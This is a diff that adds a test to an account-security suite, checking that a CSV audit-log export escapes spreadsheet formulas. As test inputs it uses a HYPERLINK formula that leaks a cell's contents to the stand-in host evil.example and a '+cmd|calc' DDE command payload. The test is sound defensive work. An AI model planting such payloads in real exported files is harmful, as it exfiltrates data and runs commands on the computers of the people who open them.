@@ -390,6 +390,17 @@ describe('attacks on accounts through a role (issue 32)', () => {
     expect(await new Browser(t.url).signIn('ida@example.com', 'ida chose this one')).toBe(204);
   });
 
+  it('exports the audit log with text a spreadsheet would run as a formula kept as text', async () => {
+    const o = await owner('zoe@example.com');
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
+    expect((await o.b.request('PATCH', `/orgs/${o.orgId}`, { name: evil })).status).toBe(204);
+    expect((await o.b.request('POST', '/project/keys', { name: '+cmd|calc', scopes: ['read'] })).status).toBe(201);
+    const csv = (await o.b.request<string>('GET', `/orgs/${o.orgId}/audit/export?format=csv`)).body;
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")"`);
+    expect(csv).toContain(`,'+cmd|calc,`);
+    expect(csv.split('\n').every((line) => !/(^|,)[=+@]/.test(line))).toBe(true);
+  });
+
   it("keys an admin made, and keys made with them, stop working when the admin is removed or no longer an admin", async () => {
     const o = await owner('uma@example.com');
     const own = await o.b.request<ApiKeyCreated>('POST', '/project/keys', { name: "the owner's", scopes: ['read'] });
